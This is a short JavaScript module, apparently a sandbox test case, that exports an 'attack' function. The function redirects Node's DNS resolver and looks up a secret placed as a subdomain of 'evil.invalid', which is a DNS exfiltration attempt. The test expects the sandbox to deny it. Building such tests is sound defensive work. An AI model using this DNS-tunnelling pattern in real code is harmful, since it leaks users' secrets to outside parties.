// Module-level dns.setServers + dns.resolve4 (bound to the default resolver at load).
import dns from 'node:dns';
export const meta = { kind: 'dns', evidence: 'udp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    dns.setServers([`127.0.0.1:${ctx.udpPort}`]);
    dns.resolve4(`${ctx.secret}.evil.invalid`, (error) => {
      if (error && error.code === 'ERR_LEASH_DENIED') reject(error);
      else resolve('queried');
    });
    setTimeout(() => resolve('queried'), 500);
  });
}
